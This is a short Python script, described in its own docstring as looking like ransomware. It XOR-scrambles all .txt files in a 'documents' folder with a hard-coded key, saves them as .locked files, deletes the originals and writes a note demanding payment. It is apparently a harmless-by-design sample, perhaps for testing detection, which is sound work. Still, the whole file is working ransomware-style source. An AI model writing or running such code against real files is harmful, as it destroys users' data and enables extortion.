"""Looks like ransomware: scrambles documents and asks for money. Only sample data is beside it."""
import hashlib
import os
from pathlib import Path

key = hashlib.sha256(b"sample").digest()


def scramble(data):
    return bytes(byte ^ key[place % len(key)] for place, byte in enumerate(data))


for path in sorted(Path("documents").rglob("*.txt")):
    locked = path.with_suffix(".locked")
    locked.write_bytes(scramble(path.read_bytes()))
    os.remove(path)
Path("READ_ME.txt").write_text("Your files are locked. Pay to get them back.\n")
print("done")
